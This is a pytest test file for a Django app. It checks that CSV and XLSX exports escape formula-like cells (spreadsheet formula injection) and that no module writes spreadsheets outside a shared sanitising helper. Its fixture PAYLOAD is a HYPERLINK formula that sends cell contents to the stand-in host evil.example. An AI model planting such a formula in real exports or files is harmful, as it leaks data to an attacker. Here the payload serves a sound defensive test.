"""Every CSV/XLSX export path neutralises formula-like cells through `core.spreadsheets`
(ASVS 5.0 1.2.10), and no module writes CSV or XLSX past it."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from champions.insights import exports
from champions.network import downloads, market, searches
from champions.network.importing import ImportReport
from champions.registry import jobs
from champions.registry.models import ImportJob

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SRC = Path(__file__).resolve().parents[1] / "src" / "champions"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _registry_import_report() -> str:
    job = ImportJob.objects.create(
        file_name="a.csv", stored_path="a.csv", errors=[[2, "name", PAYLOAD]]
    )
    return jobs.import_report_csv(job=job)


def _network_import_report() -> str:
    return ImportReport(errors=[(2, "headline", PAYLOAD)]).as_csv()


def _market() -> str:
    summary = market.MarketSummary(
        days=90,
        chapters=[market.ChapterRow("52", PAYLOAD, 1, 2, 0)],
        countries=[],
        top_requested=[],
        months=[],
    )
    return market.market_csv(summary)


def _searches() -> str:
    summary = searches.SearchSummary(
        days=90, rows=[searches.SearchedRow("hs:5205", PAYLOAD, "DE", "buy", 7)], hidden=0
    )
    empty = market.MarketSummary(days=90, chapters=[], countries=[], top_requested=[], months=[])
    return downloads.market_csv_response(empty, summary, table="searches").content.decode()


def _dashboard_csv() -> str:
    return exports.download("states", "csv", ["state", "n"], [[PAYLOAD, 3]]).content.decode()


@pytest.mark.parametrize(
    "export",
    [_registry_import_report, _network_import_report, _market, _searches, _dashboard_csv],
)
def test_a_csv_export_writes_the_formula_as_text(export):
    cells = _cells(export())

    assert f"'{PAYLOAD}" in cells
    assert PAYLOAD not in cells


def test_the_dashboard_xlsx_keeps_the_formula_as_a_string():
    response = exports.download("states", "xlsx", ["state", "n"], [[PAYLOAD, 3]])

    cell = load_workbook(io.BytesIO(response.content)).active["A2"]

    assert (cell.value, cell.data_type, cell.quotePrefix) == (PAYLOAD, "s", True)


def test_no_module_writes_csv_or_xlsx_past_the_shared_helper():
    # (the import command's --report file and the import template are covered by this scan:
    # their cells are our own messages and column names, so no payload reaches a cell start)
    offenders = []
    for path in SRC.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(str(path))
        if "openpyxl" in text and "Workbook(" in text and "sheet.append(" in text:
            offenders.append(str(path))
    assert offenders == []
